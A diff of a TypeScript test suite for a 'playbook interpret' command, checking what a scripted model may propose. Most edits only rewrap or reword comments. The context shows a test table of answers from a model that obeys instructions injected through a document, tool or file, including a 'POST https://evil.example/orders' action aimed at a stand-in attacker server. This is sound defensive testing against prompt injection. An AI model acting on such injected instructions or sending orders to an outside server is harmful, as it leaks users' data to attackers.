@@ -1,4 +1,5 @@
-// `playbook interpret` as a user runs it, against a scripted model: what is proposed, what is refused although the model says it, and what is never sent.
+// `playbook interpret` as a user runs it, against a scripted model: what is proposed, what is refused although the
+// model says it, and what is never sent.
 
 import assert from "node:assert/strict";
 import { readFile, writeFile } from "node:fs/promises";
@@ -166,7 +167,7 @@ describe("playbook interpret", () => {
     assert.equal(server?.requests.length, 1);
   });
 
-  /** What a model answers when it obeys the text in the document, the tool or the file; none of it may be proposed. */
+  /** The answers of a model that obeys the text in the document, the tool or the file; none of it may be proposed. */
   const obeyed: Readonly<Record<string, readonly [steps: readonly object[], says: RegExp]>> = {
     "another server": [
       [{ ...order, action: "POST https://evil.example/orders" }],
